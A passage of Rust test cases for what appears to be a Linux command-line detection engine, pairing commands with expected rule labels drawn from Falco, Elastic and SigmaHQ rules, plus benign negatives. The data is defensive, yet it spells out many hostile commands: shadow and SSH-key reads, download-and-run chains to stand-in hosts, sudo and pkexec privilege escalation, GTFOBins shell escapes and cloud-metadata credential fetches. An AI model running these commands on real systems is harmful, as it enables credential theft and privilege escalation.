            vec!["evasion-system-file-world-writable"],
        ),
        user(vec!["chmod", "777", "/srv/share"], vec![]),
        user(vec!["chmod", "644", "/etc/app.conf"], vec![]),
        user(
            vec!["find", "/", "-name", "id_rsa"],
            vec!["discovery-credential-files"],
        ),
        user(
            vec![
                "find",
                "/",
                "-name",
                "credentials",
                "-type",
                "f",
                "-path",
                "*/.aws/*",
            ],
            vec!["discovery-credential-files"],
        ),
        user(
            vec!["find", "/home", "-name", "*.pem"],
            vec!["discovery-credential-files"],
        ),
        user(vec!["find", "/etc", "-name", "*.conf"], vec![]),
        user(
            vec!["grep", "-ri", "password", "/etc", "/home"],
            vec!["discovery-password-search"],
        ),
        user(vec!["grep", "-rn", "password", "src/"], vec![]),
        user(
            vec!["grep", "-i", "password", "/etc/ssh/sshd_config"],
            vec![],
        ),
        // Falco's "Search Private Keys or Passwords" and "Find AWS Credentials": a key's PEM
        // header or the AWS key names searched for in a tree, wherever it starts.
        user(
            vec!["grep", "-r", "BEGIN RSA PRIVATE", "/tmp/x"],
            vec!["discovery-password-search"],
        ),
        user(
            vec!["grep", "BEGIN OPENSSH PRIVATE KEY", "-rl", "."],
            vec!["discovery-password-search"],
        ),
        user(
            vec!["grep", "-ri", "aws_secret_access_key", "/srv/app"],
            vec!["discovery-password-search"],
        ),
        user(
            vec!["rg", "-l", "aws_access_key_id"],
            vec!["discovery-password-search"],
        ),
        user(
            vec![
                "grep",
                "-q",
                "BEGIN RSA PRIVATE KEY",
                "/etc/ssl/private/site.key",
            ],
            vec![],
        ),
        user(
            vec!["grep", "-r", "BEGIN CERTIFICATE", "/etc/ssl/certs"],
            vec![],
        ),
        // Falco's "Read ssh information" (the directory archived) and "Read environment
        // variable from /proc files" (another process's environment).
        user(
            vec!["tar", "czf", "/tmp/k.tgz", "-C", "/home/a", ".ssh"],
            vec!["discovery-credential-file-read"],
        ),
        user(
            vec!["zip", "-r", "/tmp/k.zip", "/root/.ssh/"],
            vec!["discovery-credential-file-read"],
        ),
        user(
            vec!["tar", "xzf", "/tmp/k.tgz", "-C", "/home/a/.ssh"],
            vec![],
        ),
        user(vec!["cp", "k.pub", "/home/a/.ssh/"], vec![]),
        user(
            vec!["cat", "/proc/1/environ"],
            vec!["discovery-credential-file-read"],
        ),
        user(
            vec!["strings", "/proc/*/environ"],
            vec!["discovery-credential-file-read"],
        ),
        user(
            vec!["xargs", "-0", "-L1", "-a", "/proc/1/environ"],
            vec!["discovery-credential-file-read"],
        ),
        user(vec!["cat", "/proc/self/environ"], vec![]),
        user(vec!["cat", "/proc/1/cmdline"], vec![]),
        user(
            vec!["cat", "/root/.aws/credentials"],
            vec!["discovery-credential-file-read"],
        ),
        user(
            vec!["cp", "/home/a/.ssh/id_rsa", "/tmp/k"],
            vec!["discovery-credential-file-read"],
        ),
        user(vec!["cat", "/home/a/.ssh/id_rsa.pub"], vec![]),
        user(vec!["cat", "/etc/shadow"], vec!["discovery-shadow-read"]),
        user(
            vec!["bash", "-c", "echo \"$(< /etc/shadow)\""],
            vec!["discovery-shadow-read"],
        ),
        user(
            vec!["ed", "-s", "/etc/shadow"],
            vec!["discovery-shadow-read"],
        ),
        user(
            vec!["sh", "-c", "echo -e \"e /etc/shadow\\n,p\\n\" | ed"],
            vec!["discovery-shadow-read"],
        ),
        user(vec!["ed", "-s", "notes.txt"], vec![]),
        user(
            vec!["sh", "-c", "echo -e \"e notes.txt\\n,p\\n\" | ed"],
            vec![],
        ),
        user(vec!["cp", "-p", "/etc/shadow", "shadow.bak"], vec![]),
        user(vec!["cat", "/etc/passwd"], vec![]),
        // Falco's event generator: Baron Samedit and PwnKit as it runs them (as daemon).
        case(
            "bash",
            1,
            1,
            vec!["sudoedit", "-u", "daemon", "-s", "ls\\"],
            vec!["privesc-sudoedit-heap-overflow"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sudoedit", "-s", "\\", "x"],
            vec!["privesc-sudoedit-heap-overflow"],
        ),
        user(vec!["sudoedit", "/etc/hosts"], vec![]),
        user(vec!["sudoedit", "-u", "www", "/srv/a\\b"], vec![]),
        case(
            "bash",
            1,
            1,
            vec!["pkexec"],
            vec!["privesc-pkexec-without-program"],
        ),
        user(vec!["pkexec", "/usr/sbin/gparted"], vec![]),
        // Falco's event generator: a hard link to the hashes, a symbolic link to /etc.
        user(
            vec!["ln", "-v", "/etc/shadow", "/tmp/d/shadow_link"],
            vec!["discovery-credential-file-linked"],
        ),
        user(
            vec!["ln", "-sf", "/etc/sudoers", "s"],
            vec!["discovery-credential-file-linked"],
        ),
        user(
            vec!["ln", "-s", "/etc", "/tmp/d/etc_link"],
            vec!["discovery-sensitive-directory-linked"],
        ),
        user(
            vec!["ln", "--symbolic", "/root/", "r"],
            vec!["discovery-sensitive-directory-linked"],
        ),
        user(
            vec![
                "ln",
                "-s",
                "/etc/nginx/sites-available/a",
                "/etc/nginx/sites-enabled/a",
            ],
            vec![],
        ),
        user(
            vec!["ln", "-sf", "/usr/share/zoneinfo/UTC", "/etc/localtime"],
            vec![],
        ),
        user(vec!["ln", "/etc", "/tmp/x"], vec![]),
        user(vec!["ln", "-s", "../etc/shadow.d"], vec![]),
        user(
            vec!["unshadow", "/etc/passwd", "/etc/shadow"],
            vec!["tool-password-cracker"],
        ),
        user(
            vec![
                "bash",
                "-c",
                "for p in $(seq 1 1024); do (echo > /dev/tcp/127.0.0.1/$p) && echo $p; done",
            ],
            vec!["discovery-port-scan-dev-tcp"],
        ),
        user(
            vec!["tcpdump", "-c", "5", "-nnni", "eth0"],
            vec!["tool-sniffer"],
        ),
        user(vec!["bettercap", "-iface", "eth0"], vec!["tool-mitm"]),
        user(
            vec!["nc", "-zv", "127.0.0.1", "1-1024"],
            vec!["tool-netcat-scan"],
        ),
        user(vec!["nc", "-l", "8080"], vec![]),
        // Elastic's Red Team Automation, as the real tools do it: a program decoded and exec'd
        // by an interpreter one-liner, a hex-escaped payload run by the shell, procfs hiding
        // processes, sudo asked for user id -1 (CVE-2019-14287).
        user(
            vec![
                "python3",
                "-c",
                "import base64,sys;exec(base64.b64decode('aW1wb3J0IHN5cw=='))",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import base64\ncode = base64.b64decode('aW1wb3J0IHN5cw==')\nexec(code)",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "perl",
                "-MMIME::Base64",
                "-e",
                "eval(decode_base64('cHJpbnQgMQ=='))",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec!["php", "-r", "eval(base64_decode('ZWNobyAxOw=='));"],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73')",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import base64;print(base64.b64decode('aGk='))",
            ],
            vec![],
        ),
        // The decoded text handed to a shell.
        user(
            vec![
                "python3",
                "-c",
                "import base64,os;os.system(base64.b64decode('aWQ=').decode())",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "perl",
                "-MMIME::Base64",
                "-e",
                "system(decode_base64('aWQ='))",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "node",
                "-e",
                "require('child_process').execSync(Buffer.from('aWQ=','base64').toString())",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import subprocess,base64;subprocess.run(['sh','-c',base64.b64decode('aWQ=')])",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import base64,os;os.system('id');print(base64.b64decode('aGk='))",
            ],
            vec![],
        ),
        user(
            vec!["python3", "-c", "exec(open('setup.py').read())"],
            vec![],
        ),
        user(
            vec![
                "bash",
                "-c",
                "eval \"$(printf '\\x69\\x64\\x3b\\x20\\x75\\x6e\\x61\\x6d\\x65')\"",
            ],
            vec!["exec-hex-payload-shell"],
        ),
        user(
            vec!["sh", "-c", "printf '\\x69\\x64\\x0a\\x77' | sh"],
            vec!["exec-pipe-to-shell", "exec-hex-payload-shell"],
        ),
        user(vec!["sh", "-c", "printf '\\x1b[1m\\x1b[0m' | less"], vec![]),
        user(vec!["bash", "-c", "eval \"$(printf 'x=%s' 1)\""], vec![]),
        user(
            vec!["mount", "-o", "remount,rw,hidepid=2", "/proc"],
            vec!["evasion-proc-hidepid"],
        ),
        user(
            vec![
                "mount",
                "-t",
                "proc",
                "-o",
                "hidepid=invisible",
                "proc",
                "/x",
            ],
            vec!["evasion-proc-hidepid"],
        ),
        user(vec!["mount", "-o", "remount,hidepid=0", "/proc"], vec![]),
        user(vec!["mount", "-t", "proc", "proc", "/proc"], vec![]),
        user(
            vec!["sudo", "-u#-1", "/bin/bash"],
            vec!["privesc-sudo-runas-minus-one"],
        ),
        user(
            vec!["sudo", "-u", "#4294967295", "id"],
            vec!["privesc-sudo-runas-minus-one"],
        ),
        user(vec!["sudo", "-u", "#1000", "id"], vec![]),
        user(vec!["sudo", "-u", "www-data", "id"], vec![]),
        // Elastic's endpoint behaviour rules for Linux (collection to defence evasion).
        // "Linux Hidden File Mounted": a mount on or from a dot directory under /mnt or /media.
        user(
            vec!["mount", "--bind", "/var/lib/x", "/mnt/.cache"],
            vec!["evasion-hidden-mount"],
        ),
        user(
            vec!["mount", "-o", "loop", "/media/.img/disk.img", "/srv/x"],
            vec!["evasion-hidden-mount"],
        ),
        user(vec!["mount", "/dev/sdb1", "/mnt/backup"], vec![]),
        user(vec!["mount", "--bind", "/srv/a", "/mnt/./b"], vec![]),
        // "Hexadecimal IP Command-Line Argument": a URL whose host is a hexadecimal or
        // single-integer address, reported for the program and not the shell around it.
        user(
            vec!["curl", "-s", "http://0x7f000001:8080/x"],
            vec!["evasion-hex-ip-url"],
        ),
        user(
            vec!["wget", "-q", "http://0xc0.0xa8.0x1.0x2/bins/x86"],
            vec!["evasion-hex-ip-url"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import urllib.request as u; u.urlopen('https://3232235778/p')",
            ],
            vec!["evasion-hex-ip-url"],
        ),
        user(vec!["sh", "-c", "curl -s http://0x7f000001/x"], vec![]),
        user(vec!["curl", "-s", "http://127.0.0.1:8080/0x10"], vec![]),
        user(vec!["curl", "-s", "https://0xcafe.de/"], vec![]),
        user(vec!["curl", "-s", "http://example.com:8080/"], vec![]),
        // "File Downloaded via Curl or Wget to Hidden Directory", "Creation of Hidden Shared
        // Object File": a download saved under a dot name in a shared temporary directory.
        user(
            vec!["curl", "-s", "-o", "/tmp/.x/payload", "http://h/p"],
            vec!["evasion-download-to-hidden-path"],
        ),
        user(
            vec!["curl", "-sLo", "/var/tmp/.libsys.so", "http://h/l.so"],
            vec!["evasion-download-to-hidden-path"],
        ),
        user(
            vec!["wget", "-q", "-P", "/dev/shm/.cache", "http://h/p"],
            vec!["evasion-download-to-hidden-path"],
        ),
        user(
            vec!["wget", "--output-document=/tmp/.k", "http://h/p"],
            vec!["evasion-download-to-hidden-path"],
        ),
        user(
            vec!["curl", "-o", "/tmp/node.tar.gz", "http://h/node.tar.gz"],
            vec![],
        ),
        user(
            vec!["curl", "-o", "/home/alice/.cache/x.tgz", "http://h/x.tgz"],
            vec![],
        ),
        user(vec!["wget", "-P", "/tmp/dl", "http://h/.x"], vec![]),
        // "Linux Shared Object Load via SSH-Keygen" (GTFOBins' ssh-keygen): a PKCS#11 provider
        // from a temporary, home or relative path.
        user(
            vec!["ssh-keygen", "-D", "/tmp/x/lib.so"],
            vec!["evasion-ssh-pkcs11-library"],
        ),
        user(
            vec!["ssh-add", "-s", "./lib.so"],
            vec!["evasion-ssh-pkcs11-library"],
        ),
        user(
            vec!["ssh", "-o", "PKCS11Provider=/dev/shm/p.so", "u@h"],
            vec!["evasion-ssh-pkcs11-library"],
        ),
        user(
            vec![
                "ssh-keygen",
                "-D",
                "/usr/lib/x86_64-linux-gnu/opensc-pkcs11.so",
            ],
            vec![],
        ),
        user(
            vec!["ssh", "-I", "/usr/lib/opensc-pkcs11.so", "u@h"],
            vec![],
        ),
        user(
            vec!["ssh-keygen", "-l", "-f", "/home/alice/.ssh/id_ed25519.pub"],
            vec![],
        ),
        // "Linux File Made Executable by Suspicious Parent": a file in /dev/shm made
        // executable.
        user(
            vec!["chmod", "+x", "/dev/shm/.k"],
            vec!["evasion-shm-file-made-executable"],
        ),
        user(
            vec!["chmod", "0755", "/dev/shm/x/stage2"],
            vec!["evasion-shm-file-made-executable"],
        ),
        user(
            vec!["chmod", "u+rwx", "/dev/shm/s"],
            vec!["evasion-shm-file-made-executable"],
        ),
        user(vec!["chmod", "644", "/dev/shm/state"], vec![]),
        user(vec!["chmod", "1777", "/dev/shm"], vec![]),
        user(vec!["chmod", "+x", "/home/alice/bin/tool"], vec![]),
        user(
            vec!["cat", "/etc/kubernetes/pki/ca.key"],
            vec!["discovery-credential-file-read"],
        ),
        user(
            vec!["tar", "czf", "/tmp/k.tgz", "/etc/kubernetes/pki"],
            vec!["discovery-credential-file-read"],
        ),
        user(vec!["cat", "/etc/kubernetes/pki/ca.crt"], vec![]),
        // Ordinary work.
        user(vec!["cargo", "build", "--release"], vec![]),
        user(vec!["gcc", "-O2", "-o", "a.out", "a.c"], vec![]),
        user(vec!["ls", "-la", "/var/log"], vec![]),
        user(vec!["apt-get", "install", "-y", "curl"], vec![]),
        user(vec!["sh", "-c", "for i in 1 2 3; do echo $i; done"], vec![]),
        user(vec!["git", "clone", "https://example.com/r.git"], vec![]),
        // SigmaHQ rules/linux/process_creation, as their detection blocks describe the
        // attacks (docs/EFFICACY.md, "SigmaHQ's Linux process-creation rules").
        case(
            "bash",
            1000,
            1000,
            vec![
                "apt-get",
                "update",
                "-o",
                "APT::Update::Pre-Invoke::=/bin/sh",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "/usr/bin/apt",
                "update",
                "-o",
                "APT::Update::Pre-Invoke::=/bin/bash -i",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["awk", "BEGIN {system(\"/bin/sh\")}"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/gawk", "BEGIN {system(\"/bin/bash -i\")}"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["mawk", "BEGIN{system(\"/bin/sh\")}"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["bash", "-c", "base64 -w0 /bin/ls | bash ddexec.sh ls"],
            vec!["exec-base64-pipe-shell"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "echo IyEvYmluL2Jhc2gKaWQK | base64 -d > /tmp/a.sh",
            ],
            vec!["exec-encoded-shebang"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "bash",
                "-c",
                "printf IyEvYmluL3NoCmlkCg== | base64 --decode > /dev/shm/x",
            ],
            vec!["exec-encoded-shebang"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["capsh", "--"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/sbin/capsh", "--gid=0", "--uid=0", "--"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["cat", "/etc/sudoers"],
            vec!["discovery-sudoers-read"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["grep", "-v", "^#", "/etc/sudoers"],
            vec!["discovery-sudoers-read"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/less", "/etc/sudoers.d/90-cloud-init-users"],
            vec!["discovery-sudoers-read"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["cp", "/etc/shadow", "/tmp/s"],
            vec!["discovery-account-files-copied"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/bin/cp", "/etc/passwd", "/dev/shm/p"],
            vec!["discovery-account-files-copied"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ls", "-la", "/.dockerenv"],
            vec!["discovery-container-residence"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["cat", "/proc/1/cgroup"],
            vec!["discovery-container-residence"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["grep", "-i", "docker", "/proc/self/cgroup"],
            vec!["discovery-container-residence"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "-s",
                "--unix-socket",
                "/var/run/docker.sock",
                "http://localhost/containers/json",
            ],
            vec!["privesc-docker-socket-from-cli"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "wget",
                "-qO-",
                "--unix-socket=/run/docker.sock",
                "http://d/images/json",
            ],
            vec!["privesc-docker-socket-from-cli"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "dd",
                "if=/tmp/sc.bin",
                "of=/proc/1234/mem",
                "bs=1",
                "seek=4198400",
                "conv=notrunc",
            ],
            vec!["injection-dd-proc-mem"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["dmesg", "-C"],
            vec!["evasion-clear-kernel-log"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["dmesg", "--clear"],
            vec!["evasion-clear-kernel-log"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/dmesg", "-c"],
            vec!["evasion-clear-kernel-log"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["env", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "/usr/bin/curl -s http://h/a -o /dev/shm/a; chmod +x /dev/shm/a; /dev/shm/a",
            ],
            vec!["exec-download-to-tmp-and-run"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "wget -q http://h/x.sh -O /tmp/x.sh && sh /tmp/x.sh",
            ],
            vec!["exec-download-to-tmp-and-run"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "bpftrace",
                "--unsafe",
                "-e",
                "kprobe:do_nanosleep { system(\"id\") }",
            ],
            vec!["exec-bpftrace-unsafe"],
        ),
        // Elastic's wildcard-injection rule: tar's checkpoint action and zip's test command
        // running a shell, given outright or by files named like options that `*` expands.
        case(
            "bash",
            1000,
            1000,
            vec![
                "tar",
                "-cf",
                "/dev/null",
                "/dev/null",
                "--checkpoint=1",
                "--checkpoint-action=exec=/bin/sh",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "tar",
                "cf",
                "/tmp/backup.tar",
                "--checkpoint=1",
                "--checkpoint-action=exec=sh x.sh",
                "x.sh",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["zip", "/tmp/x.zip", "/etc/hostname", "-T", "-TT", "sh #"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["zip", "x.zip", "f", "-T", "--unzip-command", "bash -c id"],
            vec!["exec-shell-escape-via-program"],
        ),
        // split's filter a bare shell: each chunk of its input runs as commands.
        case(
            "bash",
            1000,
            1000,
            vec!["split", "--filter=/bin/sh", "/dev/stdin"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["split", "-l", "1", "--filter", "bash", "cmds.txt"],
            vec!["exec-shell-escape-via-program"],
        ),
        // GTFOBins' shells through programs installed on a Debian host (docs/EFFICACY.md,
        // "GTFOBins through the programs installed here").
        case(
            "bash",
            1000,
            1000,
            vec!["timeout", "7d", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["taskset", "1", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["setarch", "x86_64", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["linux64", "/bin/bash", "-i"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["choom", "-n", "0", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["logsave", "/dev/null", "/bin/sh", "-i"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/time", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["strace", "-o", "/dev/null", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ip", "netns", "exec", "foo", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["xargs", "-a", "/dev/null", "sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["xargs", "-o", "/bin/bash"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["start-stop-daemon", "-n", "x1", "-S", "-x", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "start-stop-daemon",
                "-n",
                "x1",
                "-S",
                "-x",
                "/bin/sh",
                "--",
                "-p",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["run-parts", "--new-session", "--regex", "^sh$", "/bin"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["dmsetup", "ls", "--exec", "/bin/sh -s"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["tar", "xf", "/dev/null", "-I", "/bin/sh -c \"sh <&2 1>&2\""],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "busctl",
                "set-property",
                "org.freedesktop.systemd1",
                "/org/freedesktop/systemd1",
                "org.freedesktop.systemd1.Manager",
                "LogLevel",
                "s",
                "debug",
                "--address=unixexec:path=/bin/sh,argv1=-c,argv2='/bin/sh -i 0<&2 1>&2'",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["gdb", "-nx", "-ex", "!sh", "-ex", "quit"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "gdb",
                "-nx",
                "-ex",
                "python import os; os.execl(\"/bin/sh\", \"sh\")",
                "-ex",
                "quit",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sqlite3", "/dev/null", ".shell /bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["make", "-s", "--eval=x:\n\t-/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["service", "../../bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/bin/sh", "/usr/sbin/service", "../../bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "exec sh 1>&0"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "reset; exec sh 1>&0 2>&0"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/bin/sh", "-c", "sh <&2 1>&2"],
            vec!["exec-shell-escape-via-program"],
        ),
        // The same programs at ordinary work.
        case(
            "bash",
            1000,
            1000,
            vec!["timeout", "10", "/bin/sh", "-c", "make test"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["timeout", "30s", "./run-tests.sh"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["taskset", "-c", "0-3", "./bench"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["setarch", "x86_64", "-L", "./a.out"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/time", "-v", "make", "-j4"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["strace", "-f", "-o", "trace.txt", "/bin/sh", "build.sh"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ip", "netns", "exec", "blue", "ping", "-c1", "10.0.0.1"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["xargs", "-n1", "sh", "-c", "echo $0"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["find", ".", "-name", "*.sh", "-print0"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["xargs", "-0", "-n1", "sh"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["start-stop-daemon", "--start", "--exec", "/usr/sbin/nginx"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["run-parts", "--regex", "^[a-z]+$", "/etc/cron.daily"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["dmsetup", "ls", "--tree"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["tar", "-I", "zstd -19", "-cf", "x.tar.zst", "dir"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["tar", "--use-compress-program=pigz", "-cf", "x.tgz", "dir"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["busctl", "--user", "list"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["gdb", "-batch", "-ex", "bt", "-p", "1234"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sqlite3", "db.sqlite", ".tables"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["make", "-j4", "--eval=CFLAGS+=-O2", "all"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["service", "nginx", "restart"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "./configure 1>&2"],
            vec![],
        ),
        // Progress dots, zip's own test command and split compressing its chunks are not.
        case(
            "bash",
            1000,
            1000,
            vec!["split", "-b", "1M", "--filter=gzip > $FILE.gz", "big.log"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["split", "-n", "2", "shell.txt", "part-"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "tar",
                "--checkpoint=1000",
                "--checkpoint-action=dot",
                "-czf",
                "b.tgz",
                "dir",
            ],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["zip", "-T", "-TT", "unzip -tqq", "x.zip", "f"],
            vec![],
        ),
        // Elastic's "BPF filter applied using TC": an eBPF program attached to traffic by tc.
        case(
            "bash",
            0,
            0,
            vec![
                "tc", "filter", "add", "dev", "eth0", "ingress", "bpf", "da", "obj", "x.o", "sec",
                "tc",
            ],
            vec!["exec-tc-bpf-filter"],
        ),
        case(
            "bash",
            0,
            0,
            vec![
                "tc",
                "filter",
                "add",
                "dev",
                "eth0",
                "parent",
                "1:",
                "protocol",
                "ip",
                "u32",
                "match",
                "ip",
                "dst",
                "10.0.0.1/32",
                "flowid",
                "1:1",
            ],
            vec![],
        ),
        case(
            "bash",
            0,
            0,
            vec!["tc", "filter", "show", "dev", "eth0", "ingress"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
            ],
            vec!["discovery-cloud-metadata"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["wget", "-qO-", "http://169.254.170.2/v2/credentials/abc"],
            vec!["discovery-cloud-metadata"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "http://100.100.100.200/latest/meta-data/ram/security-credentials/r",
            ],
            vec!["discovery-cloud-metadata"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "docker",
                "run",
                "-v",
                "/var/run/docker.sock:/var/run/docker.sock",
                "alpine",
            ],
            vec!["privesc-privileged-container"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["docker", "run", "--cap-add=SYS_ADMIN", "alpine", "sh"],
            vec!["privesc-privileged-container"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["podman", "create", "--pid", "host", "alpine"],
            vec!["privesc-privileged-container"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["nerdctl", "run", "-it", "--volume", "/:/host", "alpine"],
            vec!["privesc-privileged-container"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["find", ".", "-exec", "/bin/sh", ";", "-quit"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["find", ".", "-exec", "/bin/bash", "-p", "\\;", "-quit"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["flock", "-u", "/", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "git",
            1000,
            1000,
            vec!["sh", "-c", "exec sh 0<&1"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["gcc", "-wrapper", "/bin/sh,-s", "."],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["vim", "-c", ":!/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
